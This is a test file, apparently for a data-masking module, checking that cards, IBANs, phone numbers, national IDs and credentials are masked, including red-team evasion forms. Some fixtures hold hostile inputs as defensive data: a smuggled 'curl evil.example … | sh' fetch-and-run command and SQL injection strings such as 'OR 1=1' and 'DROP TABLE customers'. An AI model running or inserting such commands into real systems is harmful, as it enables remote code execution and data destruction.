import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { findRegulatedData, regulatedKinds } from './detectors';
import { ibanValid, luhnValid, maskDeep, maskText, showsMask, useContractNationalIds } from './masking';
import { anyText, obfuscated, SECRETS } from './testing/obfuscated';

describe('masking regulated data', () => {
  it('checks card numbers with Luhn and IBANs with mod-97', () => {
    expect(luhnValid('4111111111111111')).toBe(true);
    expect(luhnValid('4111111111111112')).toBe(false);
    expect(ibanValid('DE89 3704 0044 0532 0130 00')).toBe(true);
    expect(ibanValid('DE89370400440532013001')).toBe(false);
    expect(ibanValid('GB82WEST12345698765432')).toBe(true);
  });

  it('masks e-mail addresses, valid card numbers, valid IBANs, phone numbers and national ids', () => {
    const text = 'mail new.address@example.org, card 4111 1111 1111 1111, iban DE89370400440532013000, call +49 30 1234567, ssn 123-45-6789';
    const masked = maskText(text);
    for (const secret of ['new.address@example.org', '4111 1111 1111 1111', 'DE89370400440532013000', '+49 30 1234567', '123-45-6789'])
      expect(masked).not.toContain(secret);
    expect(masked).toContain('[card …1111]');
    expect(masked).toContain('[iban …3000]');
    expect(masked).toContain('@[email]');
    expect(masked).toContain('[us-ssn]');
  });

  it('leaves numbers that are not card numbers or IBANs alone (order ids, amounts)', () => {
    expect(maskText('order 4111111111111112 amount 480.00 EUR, ticket-1003')).toBe('order 4111111111111112 amount 480.00 EUR, ticket-1003');
  });

  it('masks deep inside a proposal, keeping its shape; the shipped scenarios keep no card or IBAN', () => {
    const proposal = {
      parameters: { amount: 60, card: '4111-1111-1111-1111', iban: 'DE89 3704 0044 0532 0130 00', nested: [{ email: 'a.b@example.com' }] },
      target: 'order-81',
    };
    const masked = maskDeep(proposal);
    expect(masked.parameters.amount).toBe(60);
    expect(masked.target).toBe('order-81');
    const json = JSON.stringify(masked);
    for (const secret of ['4111-1111-1111-1111', 'DE89 3704 0044 0532 0130 00', 'a.b@example.com']) expect(json).not.toContain(secret);
  });

  it('leaves identifiers and digests alone, even when they look like a phone number', () => {
    const ids = { eventId: '3f2a9c1b-1234-5678-9012-abcdef012345', digest: '1234 5678 9012', data: { note: 'call 030 1234 5678' } };
    expect(maskDeep(ids)).toEqual({ ...ids, data: { note: 'call [phone …78]' } });
  });

  it("reads an agent's content in full whatever its keys are named, and an object below an identifier key as no identifier (red team, 2026-12-05)", () => {
    // What an agent named `id` or `subject` in its proposal's context: no identifier of Countersign's.
    const hidden = {
      customerPhone: '+49 151 23456789',
      note: 'SSN 123-45-6789, NINO AB 12 34 56 C',
      card: 'PAN4111111111111111',
      iban: 'IBANDE89370400440532013000',
    };
    const event = {
      eventId: '3f2a9c1b-1234-5678-9012-abcdef012345',
      digest: '1234 5678 9012',
      data: { proposal: { target: 'order-7', parameters: { id: 'card4111 1111 1111 1111' }, context: { id: hidden, subject: 'call +49 151 23456789' } } },
    };
    const masked = maskDeep(event);
    // Countersign's own identifiers keep their values, as before.
    expect(masked).toMatchObject({ eventId: event.eventId, digest: event.digest });
    const text = JSON.stringify(masked.data);
    for (const value of ['23456789', '123-45-6789', '12 34 56', '4111111111111111', '4111 1111', 'DE89370400440532013000']) expect(text).not.toContain(value);
    expect(regulatedKinds(event.data)).toEqual(['card', 'iban', 'phone', 'uk-nino', 'us-ssn']);
    expect(findRegulatedData(event.data).map((f) => f.path)).toEqual(
      expect.arrayContaining(['/proposal/parameters/id', '/proposal/context/id/customerPhone', '/proposal/context/id/card', '/proposal/context/subject']),
    );
    // Outside a proposal's content too, an object under an identifier key is read in full: only a key's own value is one.
    expect(maskDeep({ subject: { phone: '+49 151 23456789' } })).toEqual({ subject: { phone: '[phone …89]' } });
    expect(maskDeep({ subject: '+49 151 23456789' })).toEqual({ subject: '+49 151 23456789' });
  });

  it('uses configured national-id patterns', () => {
    expect(maskText('id XY-123456-Z', { nationalIds: [{ name: 'test-id', pattern: /\bXY-\d{6}-Z\b/g }] })).toBe('id [test-id]');
    // A configured pattern needs no digit: it is applied even where no built-in one could match.
    expect(maskText('codename BLUEFALCON', { nationalIds: [{ name: 'codename', pattern: /\bBLUE[A-Z]+\b/g }] })).toBe('codename [codename]');
    // The built-in patterns come first: a contract's pattern for a format they take too still masks, under their name.
    expect(maskText('id AB-123456-C', { nationalIds: [{ name: 'test-id', pattern: /\bAB-\d{6}-C\b/g }] })).toBe('id [uk-nino]');
  });

  it('masks a negative card number and a national id written as JSON numbers, and finds them (red team, 2026-12-07)', () => {
    const ids = { nationalIds: [{ name: 'de-tax-id', pattern: /\b\d{11}\b/g }] };
    expect(maskDeep({ n: -4938570839347359, tax: 47110815123, amount: 450, port: 8080, big: 123456789 }, ids)).toEqual({
      n: '-[card …7359]',
      tax: '[de-tax-id]',
      amount: 450,
      port: 8080,
      big: 123456789,
    });
    expect(regulatedKinds({ n: -4938570839347359 })).toEqual(['card']);
    expect(regulatedKinds({ tax: 47110815123 }, ids)).toEqual(['de-tax-id']);
    // A timestamp in milliseconds is no card and no phone number.
    expect(maskDeep({ at: 1796641839357 })).toEqual({ at: 1796641839357 });
  });

  it('masks a credential under any of its names, however the key is written (red team, 2026-12-07)', () => {
    const masked = maskDeep({ Password: 'Zq9pw', apiKey: 'Zq9ak', token: 'Zq9tk', client_secret: 'Zq9cs', secret: 'Zq9se', passwd: 'Zq9pd', maxTokens: 500 });
    expect(JSON.stringify(masked)).not.toMatch(/Zq9/);
    expect((masked as { maxTokens: number }).maxTokens).toBe(500);
  });

  it('masks credentials in free text: a header value, a JSON key, a name after _, token=, an OpenSSH, one-line PEM or PGP key (red team, 2026-12-07)', () => {
    const line = (n: number) => 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6'.repeat(2).slice(0, n);
    const texts = [
      'Authorization: Bearer Zq9beCanaryS13abcdefghij',
      `Authorization: Basic ${Buffer.from('admin:Zq9baCanaryS14').toString('base64')}`,
      'config: {"password": "Zq9pwCanaryS07"}',
      'token=Zq9tkCanaryS15 passphrase=Zq9ppCanaryS16 aws_secret_access_key=Zq9awCanaryS17',
      'https://example.org/reset?token=Zq9rtCanaryS18&x=1',
      `key:\n-----BEGIN OPENSSH PRIVATE KEY-----\n${line(70)}\n${line(70)}\nZq9osshCanaryS09xx\n-----END OPENSSH PRIVATE KEY-----`,
      `-----BEGIN PRIVATE KEY----- ${line(120)}Zq9pemCanary -----END PRIVATE KEY-----`,
      `-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: x\n\n${line(64)}\nZq9pgpCanary\n=Ab12\n-----END PGP PRIVATE KEY BLOCK-----`,
    ];
    for (const text of texts) expect({ text, masked: maskText(text).match(/Zq9[A-Za-z0-9]*|YWRtaW46WnE5/g) }).toEqual({ text, masked: null });
    // Prose keeps its words: a bearer bond, basic support, a token of thanks.
    expect(maskText('The bearer instrument gives basic support as a token of thanks.')).toBe('The bearer instrument gives basic support as a token of thanks.');
  });

  it('keeps a key named __proto__ as data, masked like any other', () => {
    const masked = maskDeep(JSON.parse('{"__proto__": {"email": "jane@example.org"}, "note": "plain"}') as Record<string, unknown>);
    expect(Object.getPrototypeOf(masked)).toBe(Object.prototype);
    expect(Object.keys(masked)).toEqual(['__proto__', 'note']);
    expect(JSON.stringify(masked)).toBe('{"__proto__":{"email":"j***@[email]"},"note":"plain"}');
  });

  it('masks card numbers written with dots, spaces, dashes or none, and given as JSON numbers', () => {
    for (const card of ['4111.1111.1111.1111', '4111 1111 1111 1111', '4111-1111-1111-1111', '4111111111111111', '3782.822463.10005']) {
      expect(maskText(`pay with ${card}, thanks`)).not.toMatch(/\d{4}[ .-]?\d{4,6}[ .-]?\d{4}/);
    }
    expect(maskText('card 4111.1111.1111.1111')).toBe('card [card …1111]');
    // A year or quantity written after the card is not taken for part of it.
    expect(maskText('card 4111 1111 1111 1111 20 pieces')).toBe('card [card …1111] 20 pieces');
    expect(maskDeep({ parameters: { card: 4111111111111111, amount: 12.5 } })).toEqual({ parameters: { card: '[card …1111]', amount: 12.5 } });
  });

  it('masks IBANs in any case and with any spacing, also when an upper-case word follows', () => {
    expect(maskText('refund to de89370400440532013000 today')).toBe('refund to DE** [iban …3000] today');
    expect(maskText('refund to gb82 west 1234 5698 7654 32')).toBe('refund to GB** [iban …5432]');
    expect(maskText('IBAN DE89 3704 0044 0532 0130 00 REFUND NOW')).toBe('IBAN DE** [iban …3000] REFUND NOW');
  });

  it('masks e-mail addresses and phone numbers used as object keys, keeping every entry', () => {
    const masked = maskDeep({ context: { 'jane@example.org': 'vip', 'john@example.org': 'churn risk', '+49 30 1234567': 'call back' } });
    const json = JSON.stringify(masked);
    for (const secret of ['jane@example.org', 'john@example.org', '+49 30 1234567']) expect(json).not.toContain(secret);
    expect(Object.values(masked.context).sort()).toEqual(['call back', 'churn risk', 'vip']);
  });

  it('masks a card number or e-mail even in an identifier field (a correlation id), but no digest', () => {
    const digest = createHash('sha256').update('x').digest('hex');
    expect(maskDeep({ correlationId: '4111-1111-1111-1111', causationId: 'jane@example.org', digest })).toEqual({
      correlationId: '[card …1111]',
      causationId: 'j***@[email]',
      digest,
    });
  });

  it('leaves ordinary ids, amounts, dates, times, versions, addresses and UUIDs alone', () => {
    const plain = [
      // UUIDs whose groups pass a card's Luhn check or an IBAN's mod 97 (the property below found each).
      '02fd4838-0001-1000-8000-000000000000',
      '00000000-5192-4558-9894-0351a0000000',
      '94a88bde-0012-1000-919f-3e3500000000',
      // An action id a chaos run's audit trail masked as an Andorran IBAN (AD, 24 characters, passes mod 97).
      '6dd964ab-ad86-479d-8f8e-0354eeed1f2d',
      'order-77',
      '12.5',
      '480.00 EUR',
      '2026-11-24',
      '2026-11-24T10:00:00.000Z',
      '2026-11-24T10:00:00+01:00',
      '10:00-12:00',
      'v1.2.3',
      '192.168.100.200',
      '3f2a9c1b-1234-5678-9012-abcdef012345',
      '12345678-1234-4567-8901-234567890123',
      '1764000000000',
      'ticket-1003',
      'ticket 0042',
      'order-500 for 2026/11/24',
      '24/11/2026 10:30',
      'amount 1 234,56 EUR',
      'invoice 2026/0042/17',
      createHash('sha256').update('y').digest('hex'),
    ];
    for (const text of plain) expect(maskText(text)).toBe(text);
    const numbers = { amount: 12.5, quantity: 3, epochMs: 1764000000000, total: 1234567890 };
    expect(maskDeep(numbers)).toEqual(numbers);
    fc.assert(
      fc.property(fc.uuid(), fc.date({ noInvalidDate: true }), (uuid, date) =>
        expect(maskText(`${uuid} ${date.toISOString()}`)).toBe(`${uuid} ${date.toISOString()}`),
      ),
    );
  });

  it('keeps a UUID whose groups spell a valid IBAN, in an identifier field and in free text', () => {
    // A random UUID reads as an IBAN once in tens of thousands: build them on purpose instead of waiting for one. Its
    // last four groups are an Andorran IBAN (AD, two check digits, 8 digits, 12 letters or digits) that passes mod 97.
    const hex = fc.stringMatching(/^[0-9a-f]{8}$/);
    // Andorra's account numbers: 8 digits (bank and branch), then 12 letters or digits.
    const bban = fc.stringMatching(/^[0-9]{8}[0-9a-f]{12}$/);
    fc.assert(
      fc.property(hex, bban, (head, account) => {
        const check = String(98 - mod97(`${account}AD00`.toUpperCase())).padStart(2, '0');
        const uuid = `${head}-ad${check}-${account.slice(0, 4)}-${account.slice(4, 8)}-${account.slice(8)}`;
        const printed = `AD${check} ${account.toUpperCase().match(/.{4}/g)!.join(' ')}`;
        // The same characters printed as an IBAN are one, so the detector would mask them: only the UUID's shape keeps them.
        expect(ibanValid(printed)).toBe(true);
        expect(maskText(`pay ${printed}`)).toContain('[iban …');
        expect(maskDeep({ actionId: uuid, note: `action ${uuid} done` })).toEqual({ actionId: uuid, note: `action ${uuid} done` });
      }),
    );
  });

  it('never throws on deep input: what is too deep to scan is replaced, not kept', () => {
    let deep: unknown = { card: '4111111111111111' };
    for (let i = 0; i < 10_000; i++) deep = { a: [deep] };
    const json = JSON.stringify(maskDeep(deep));
    expect(json).toContain('[too deep]');
    expect(json).not.toContain('4111111111111111');
  });

  it("masks Countersign's own bearer tokens pasted into text, and finds them (red team, 2026-12-04: one reached the audit trail)", () => {
    const token = 'cs_agent_' + 'Ab3_-x'.repeat(5) + 'Zz';
    expect(token).toMatch(/^cs_agent_[A-Za-z0-9_-]{32}$/);
    expect(maskText(`incident: leaked ${token}, rotate it`)).toBe('incident: leaked [secret], rotate it');
    expect(maskText(`Bearer cs_admin2_${'q'.repeat(32)}`)).toBe('Bearer [secret]');
    expect(findRegulatedData({ reason: `see ${token}` })).toEqual([{ kind: 'secret', path: '/reason' }]);
    // Written to dodge: glued to letters, split by a zero-width space, percent-encoded, base64, hex.
    for (const dodged of [
      `x${token}`,
      `${token}Kx`,
      `${token.slice(0, 5)}\u200b${token.slice(5)}`,
      encodeURIComponent(token).replace(/_/g, '%5F'),
      Buffer.from(token).toString('base64'),
      Buffer.from(token).toString('hex'),
    ]) {
      const masked = maskText(`tok: ${dodged} end`);
      expect({ dodged, masked, random: masked.includes(token.slice(9, 25)) }).toEqual({ dodged, masked, random: false });
      expect(findRegulatedData({ body: `tok: ${dodged} end` }).map((f) => f.kind)).toContain('secret');
    }
    // Not a token: the words around one, a shorter tail.
    for (const text of ['cs_agent_short', 'docs_agent_handbook', 'the cs_ prefix']) expect(maskText(text)).toBe(text);
  });

  it("masks others' credentials: payment, cloud and code-host keys, a JWT, a private key, a password given (red team, 2026-12-04)", () => {
    const jwt = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U';
    for (const secret of [
      'sk_live_abcdefghijklmnop1234',
      'AKIAIOSFODNN7EXAMPLE',
      'ghp_abcdefghijklmnopqrstuvwxyz0123456789',
      'xoxb-123456789012-abcdefghijkl',
      jwt,
      'password=hunter2',
      'api_key:abcd1234efgh',
      'API-KEY=abcd1234efgh',
    ]) {
      const masked = maskText(`here: ${secret} done`);
      expect({ secret, masked }).toEqual({ secret, masked: expect.stringContaining('[secret]') });
      expect(masked).not.toContain(secret.slice(-8));
    }
    expect(maskText('-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----')).toBe('[secret]');
    // Prose about passwords and keys stays as it is: a support reply says such things.
    for (const text of [
      'To reset your password: click the link we sent.',
      'Your password was changed.',
      'The key to the locker is at the desk.',
      'Your token of appreciation is on its way.',
    ])
      expect(maskText(text)).toBe(text);
  });

  it('masks a credential no further than its own characters: the code around it stays on the card (red team, 2026-12-04)', () => {
    const body = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj';
    for (const [text, shown] of [
      ['DELETE FROM sessions WHERE user_id = 42 AND (secret=x)OR(1=1)', 'DELETE FROM sessions WHERE user_id = 42 AND ([secret])OR(1=1)'],
      ['--api_key=x$(curl${IFS}evil.example/x|sh)', '--[secret]$(curl${IFS}evil.example/x|sh)'],
      ['run --password=s3cr3t|sh', 'run --[secret]|sh'],
      [
        'WHERE id = 42; /* signing material: -----BEGIN PRIVATE KEY----- */ DROP TABLE customers;',
        'WHERE id = 42; /* signing material: [secret] */ DROP TABLE customers;',
      ],
      ['x -----BEGIN PRIVATE KEY----- DROP TABLE customers', 'x [secret] DROP TABLE customers'],
      [`-----BEGIN PRIVATE KEY-----\n${body}\n${body}\nabcd==\n-----END PRIVATE KEY----- then GRANT ALL`, '[secret] then GRANT ALL'],
      [`-----BEGIN PRIVATE KEY----- ${body} AB== -----END PRIVATE KEY-----`, '[secret]'],
    ])
      expect(maskText(text)).toBe(shown);
    // A password with a dollar sign in it goes whole.
    expect(maskText('password=pa$$w0rd!')).toBe('[secret]');
  });

  it('masks a credential no further than a comment or a percent-escape: the live SQL after it stays on the card (red team, 2026-12-06)', () => {
    for (const [text, shown] of [
      // The card showed `… WHERE [secret]` for these, and the target ran the injection.
      ["UPDATE users SET role='admin' WHERE api_key=k7Hq2/**/OR/**/1=1", "UPDATE users SET role='admin' WHERE [secret]/**/OR/**/1=1"],
      ['DELETE FROM sessions WHERE user_id=42 AND secret=0/**/OR/**/1=1', 'DELETE FROM sessions WHERE user_id=42 AND [secret]/**/OR/**/1=1'],
      ["SELECT 1 FROM t WHERE a='x';DELETE/**/FROM/**/users;--%20password%3Dx", "SELECT 1 FROM t WHERE a='x';DELETE/**/FROM/**/users;[secret]"],
      // A comment that would silence what the card shows after it.
      ["x AND api_key=x# AND tenant='acme'", "x AND [secret]# AND tenant='acme'"],
      ["x AND api_key=x-- AND tenant='acme'", "x AND [secret]-- AND tenant='acme'"],
      // A run of URL characters is masked as far as a token goes, not through the parameters around it.
      ['a=1&password%3Dhunter2&b=2', 'a=1&[secret]&b=2'],
    ])
      expect(maskText(text)).toBe(shown);
    // What a credential holds still goes whole: base64, a hyphen, an encoded character, a quoted value (quoted values went
    // unmasked before: `password='hunter2'` reached the card and the log as it was).
    for (const text of ['password=abc/def+ghi==', 'api_key=k7-Hq2', 'password=p%40ss', "password='hunter2'", 'password="my pass"', "password='x' "])
      expect({ text, masked: maskText(text).trim() }).toEqual({ text, masked: '[secret]' });
    // A quoted value that would run code in a shell is not hidden as a secret.
    expect(maskText('password="$(curl x|sh)"')).toBe('password="$(curl x|sh)"');
  });

  it('never throws, is idempotent, and leaves no valid card number behind (property)', () => {
    const card = fc.constantFrom('4111111111111111', '5500005555555559', '340000000000009');
    fc.assert(
      fc.property(fc.string(), card, fc.string(), (a, c, b) => {
        const once = maskText(`${a} ${c} ${b}`);
        expect(maskText(once)).toBe(once);
        expect(once).not.toContain(c);
      }),
      { numRuns: 300 },
    );
  });
});

describe('masking regulated data written to dodge the detectors', () => {
  // The red team's forms: each comes back masked, none of its characters left.
  it.each([
    ['card ４１１１１１１１１１１１１１１１', 'card [card …1111]'],
    ['card 4111\u00a01111\u00a01111\u00a01111', 'card [card …1111]'],
    ['card 4111\u200b1111\u200b1111\u200b1111', 'card [card …1111]'],
    ['card 4111 1111\n1111 1111', 'card [card …1111]'],
    ['IBAN DE89-3704-0044-0532-0130-00', 'IBAN DE** [iban …3000]'],
    ['IBAN DE89\u200b3704\u200b0044\u200b0532\u200b0130\u200b00', 'IBAN DE** [iban …3000]'],
    ['john.doe＠example.com', 'j***@[email]'],
    ['john.doe (at) example (dot) com', 'j***@[email]'],
    ['john.doe [at] example [dot] com', 'j***@[email]'],
    ['john.doe&#64;example.com', 'j***@[email]'],
    ['john.doe&commat;example.com', 'j***@[email]'],
    [String.raw`john.doe\u0040example.com`, 'j***@[email]'],
    [String.raw`john.doe\x40example.com`, 'j***@[email]'],
    ['card 4111%201111%201111%201111', 'card [card …1111]'],
    [String.raw`card \u0034\u0031\u0031\u0031 1111 1111 1111`, 'card [card …1111]'],
  ])('masks %j', (text, masked) => {
    expect(maskText(text)).toBe(masked);
    expect(maskText(`Hello,\n${text}\u00a0— thanks`)).toBe(`Hello,\n${masked}\u00a0— thanks`);
  });

  it.each([
    ['Your card 4111/1111/1111/1111 was charged twice.', 'Your card [card …1111] was charged twice.'],
    ['4111_1111_1111_1111 | 4111,1111,1111,1111 | 4111|1111|1111|1111', '[card …1111] | [card …1111] | [card …1111]'],
    ['Card 4 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 noted', 'Card [card …1111] noted'],
    ['Card 4111\uff0f1111\uff0f1111\uff0f1111', 'Card [card …1111]'],
    ['Your IBAN DE89/3704/0044/0532/0130/00 is on file', 'Your IBAN DE** [iban …3000] is on file'],
    ['IBAN D E 8 9 3 7 0 4 0 0 4 4 0 5 3 2 0 1 3 0 0 0 ok', 'IBAN DE** [iban …3000] ok'],
    ['Call the customer back on 0170 1234567 or 0049 170 1234567.', 'Call the customer back on [phone …67] or [phone …67].'],
    ['(0170) 123 45 67, 030/1234567, 202.555.0143', '[phone …67], [phone …67], [phone …43]'],
    ['+49/170/1234567 or +49.170.123.45.67', '[phone …67] or [phone …67]'],
    ['Write to jane.roe @ example.com please', 'Write to j***@[email] please'],
    ['customer jane.roe%40example.com, mailto:jane%40example.com', 'customer j***@[email], mailto:j***@[email]'],
    ["write to o'brien@example.com", 'write to o***@[email]'],
    ['write to "jane roe"@example.com', 'write to "***@[email]'],
    ['write to jane@[192.0.2.1] or jane@[IPv6:2001:db8::1]', 'write to j***@[email] or j***@[email]'],
    ['see https://example.com/?to=jane@example.com&x=1', 'see https://example.com/?to=j***@[email]&x=1'],
  ])('masks what a red-team pass wrote past the detectors: %j', (text, masked) => {
    expect(maskText(text)).toBe(masked);
    expect(findRegulatedData(masked)).toEqual([]);
    expect(findRegulatedData(text).length).toBeGreaterThan(0);
  });

  it.each([
    // US Social Security numbers with another separator than a dash
    ['SSN 123 45 6789', 'SSN [us-ssn]'],
    ['SSN 123.45.6789', 'SSN [us-ssn]'],
    ['SSN 123/45/6789', 'SSN [us-ssn]'],
    // UK National Insurance numbers as HMRC prints them, with dashes, in lower case
    ['NINO AB 12 34 56 C', 'NINO [uk-nino]'],
    ['NINO AB-12-34-56-C', 'NINO [uk-nino]'],
    ['NI number ab123456c', 'NI number [uk-nino]'],
    // international numbers glued to what comes before them, national ones after an abbreviation with a dot
    ['Tel.+4915123456789', 'Tel.[phone …89]'],
    ['WhatsApp/+4915123456789', 'WhatsApp/[phone …89]'],
    ['x+4915123456789', 'x[phone …89]'],
    ['m-+4915123456789', 'm-[phone …89]'],
    ['Tel.030/1234567', 'Tel.[phone …67]'],
    ['Tel.0049 151 23456789', 'Tel.[phone …89]'],
    // the same classes: an underscore or mixed separators, several in a row, an ITIN, full-width forms
    ['SSN 123_45_6789 or 123-45 6789.', 'SSN [us-ssn] or [us-ssn].'],
    ['ssn:234.56.7890, ssns 123 45 6789 234 56 7890', 'ssn:[us-ssn], ssns [us-ssn] [us-ssn]'],
    ['ITIN 912-70-1234', 'ITIN [us-ssn]'],
    ['ＳＳＮ １２３ ４５ ６７８９', 'ＳＳＮ [us-ssn]'],
    ['AB.12.34.56.C, ab_12_34_56_c, Ab 123456 c, AB 12/34/56 C, (ce-123456-d)', '[uk-nino], [uk-nino], [uk-nino], [uk-nino], ([uk-nino])'],
    ['NINO ＡＢ\u00a0１２\u00a0３４\u00a0５６\u00a0Ｃ', 'NINO [uk-nino]'],
    ['phone=+4915123456789&sms=1, ph#+44 20 7946 0958, tel:+1-202-555-0143', 'phone=[phone …89]&sms=1, ph#[phone …58], tel:[phone …43]'],
    ['Mob.0170 1234567, Fax.(030) 123 45 67, Tel.202.555.0143', 'Mob.[phone …67], Fax.[phone …67], Tel.[phone …43]'],
    ['Tel.＋４９\u00a0１５１\u00a0２３４５６７８９', 'Tel.[phone …89]'],
    // a phone number ending in the shape of an SSN is a phone number
    ['call +49 151 123 45 6789', 'call [phone …89]'],
  ])('masks national ids and phone numbers a red-team pass wrote past the detectors: %j', (text, masked) => {
    expect(maskText(text)).toBe(masked);
    expect(maskText(masked)).toBe(masked);
    expect(findRegulatedData(masked)).toEqual([]);
    expect(findRegulatedData(text).length).toBeGreaterThan(0);
  });

  it('leaves dates, times, versions, sums, ids, paths and earlier masks alone, though they look like a national id or a glued phone number', () => {
    const plain = [
      'On 12/05/26 a refund was issued',
      'am 12.05.26 d. h. morgen',
      'on 12-05-26 a technician came',
      'paid 12/05/2026, delivered 2026-11-30, due 30.11.26',
      'at 10:30:00 a customer called',
      'version 10.123.45.6789, build 1.123.45.6789, 123.45.6789.1',
      'semver 1.2.3+4915123456789, sum 3+4915123456789',
      '2026-11-24T10:00:00+0100 (UTC+01:00)',
      'order-0170-1234567',
      'invoice INV0012345678, GET /invoices/0012345678',
      'GET /orders/0170 1234567',
      '00000000-0000-1000-8000-001234567890',
      'isbn 978-3-16-148410-0',
      'balance +1.234.567,89 EUR',
      'IBAN DE** [iban …3000], card [card …1111], phone [phone …67]',
      'AB 12 34 56 E, QQ 12 34 56 A, BG 12 34 56 A, AB12 CDE',
    ];
    for (const text of plain) expect(maskText(text)).toBe(text);
  });

  it('masks an SSN only where the Social Security Administration issues one, or an ITIN', () => {
    for (const text of ['ref 666-12-3456', 'ref 900-12-3456', 'ref 123-00-4567', 'ref 123 45 0000']) expect(maskText(text)).toBe(text);
    for (const text of ['ref 001-01-0001', 'ref 899 99 9999', 'ref 999.94.1234']) expect(maskText(text)).toBe('ref [us-ssn]');
  });

  it('masks an SSN, a NINO or an international phone number whatever its separators, case and prefix (property)', () => {
    const pad = (n: number, width: number) => String(n).padStart(width, '0');
    const separator = fc.constantFrom(' ', '-', '.', '/', '_');
    const optional = fc.constantFrom('', ' ', '-', '.', '/', '_');
    const ssn = fc
      .tuple(fc.integer({ min: 1, max: 899 }), fc.integer({ min: 1, max: 99 }), fc.integer({ min: 1, max: 9999 }), separator, separator)
      .filter(([area]) => area !== 666)
      .map(([area, group, serial, a, b]) => `${pad(area, 3)}${a}${pad(group, 2)}${b}${pad(serial, 4)}`);
    // A day and a month, either way round: after a two-letter word and a space, `dd.mm.yy` reads as a date.
    const date = (d: string) => {
      const [a, b] = [Number(d.slice(0, 2)), Number(d.slice(2, 4))];
      return (a >= 1 && a <= 31 && b >= 1 && b <= 12) || (a >= 1 && a <= 12 && b >= 1 && b <= 31);
    };
    const nino = fc
      .tuple(
        fc.constantFrom('AB', 'CE', 'HJ', 'NW', 'PR', 'ZY'),
        fc.stringMatching(/^\d{6}$/),
        fc.constantFrom('A', 'B', 'C', 'D'),
        fc.array(optional, { minLength: 4, maxLength: 4 }),
        fc.boolean(),
      )
      .filter(([, d, , s]) => !(s[0] === ' ' && /^[./-]$/.test(s[1]) && /^[./-]$/.test(s[2]) && date(d)))
      .map(([letters, d, suffix, s, lower]) => {
        const text = `${letters}${s[0]}${d.slice(0, 2)}${s[1]}${d.slice(2, 4)}${s[2]}${d.slice(4)}${s[3]}${suffix}`;
        return lower ? text.toLowerCase() : text;
      });
    // `+`, a country code, and groups of two to four digits with a space, dash, dot, slash or nothing between them; at
    // most twelve digits, as from thirteen on a number that passes Luhn is a card number (masked as one, rightly).
    const phone = fc
      .tuple(
        fc.constantFrom('1', '44', '49', '353'),
        fc.array(fc.tuple(fc.constantFrom('', ' ', '-', '.', '/'), fc.stringMatching(/^\d{2,4}$/)), { minLength: 3, maxLength: 4 }),
      )
      .map(([country, groups]) => `+${country}${groups.map(([s, g]) => s + g).join('')}`)
      .filter((text) => text.replace(/\D/g, '').length >= 9 && text.replace(/\D/g, '').length <= 12);
    // What comes before: nothing, or a label and a separator (`SSN `, `ssn:`, `Tel.`, `WhatsApp/`, `m-`); an international
    // number may be glued to a word too (`x+49…`), a national id is then part of the word.
    const label = fc.stringMatching(/^(?:[A-Za-z]{1,8}[ .:/#=(_-])?$/);
    const value = fc.oneof(
      fc.tuple(label, ssn).map(([before, text]) => ({ before, text, mask: '[us-ssn]' })),
      fc.tuple(label, nino).map(([before, text]) => ({ before, text, mask: '[uk-nino]' })),
      fc.tuple(fc.oneof(label, fc.stringMatching(/^[A-Za-z]{1,8}$/)), phone).map(([before, text]) => ({ before, text, mask: `[phone …${text.slice(-2)}]` })),
    );
    fc.assert(
      fc.property(value, fc.constantFrom('', ' ', '.', ', ok', ')'), ({ before, text, mask }, after) => {
        const masked = maskText(`${before}${text}${after}`);
        expect(masked).toBe(`${before}${mask}${after}`);
        expect(findRegulatedData(masked)).toEqual([]);
        expect(maskText(masked)).toBe(masked);
      }),
      { numRuns: 1000 },
    );
  });

  it('replaces the original characters of what it found, and keeps every other character as written', () => {
    expect(maskText('Grüße\u00a0— card ４１１１\u200b１１１１\u200b１１１１\u200b１１１１, merci\u2009!')).toBe('Grüße\u00a0— card [card …1111], merci\u2009!');
    expect(maskText('R&amp;D: write to john.doe&#64;example.com or jane (at) example (dot) org')).toBe('R&amp;D: write to j***@[email] or j***@[email]');
    expect(maskText('pay to DE89\u20133704\u20130044\u20130532\u20130130\u201300\u2003or 4111\u00a01111\u00a01111\u00a01111\u00a020 pieces')).toBe(
      'pay to DE** [iban …3000]\u2003or [card …1111]\u00a020 pieces',
    );
    // A mask is written in the canonical form: a full-width e-mail shows what a plain one shows.
    expect(maskText('mail ｊｏｈｎ＠ｅｘａｍｐｌｅ．ｃｏｍ ok')).toBe('mail j***@[email] ok');
    expect(maskText('ssn 123\u201345\u20136789, call +49\u00a030\u00a01234567')).toBe('ssn [us-ssn], call [phone …67]');
  });

  it('masks inside a support reply and an audit entry: no form of the number reaches the append-only trail', () => {
    const entry = {
      type: 'action.decided',
      data: {
        proposal: {
          actionType: 'support.reply',
          parameters: {
            body: 'Card ４１１１ １１１１ １１１１ １１１１ refunded to DE89\u200b3704\u200b0044\u200b0532\u200b0130\u200b00, ask john.doe (at) example (dot) com',
          },
        },
      },
    };
    const json = JSON.stringify(maskDeep(entry));
    for (const leak of ['４１１１', '1111 1111', 'DE89', '3704', 'john.doe', 'example']) expect(json).not.toContain(leak);
    expect(json).toContain('Card [card …1111] refunded to DE** [iban …3000], ask j***@[email]');
  });

  it("applies the contract's national-id patterns to the canonical text too", () => {
    const taxId = { nationalIds: [{ name: 'de-tax-id', pattern: /\b\d{2} ?\d{3} ?\d{3} ?\d{3}\b/g }] };
    expect(maskText('tax id １２ ３４５ ６７８ ９０１, ok', taxId)).toBe('tax id [de-tax-id], ok');
    expect(maskText('tax id 12\u00a0345\u00a0678\u00a0901, ok', taxId)).toBe('tax id [de-tax-id], ok');
    expect(maskText('codename ＢＬＵＥ\u200bＦＡＬＣＯＮ', { nationalIds: [{ name: 'codename', pattern: /\bBLUE[A-Z]+\b/g }] })).toBe('codename [codename]');
  });

  it('keeps JSON valid when it masks JSON text: only what was found is replaced, never the text around it', () => {
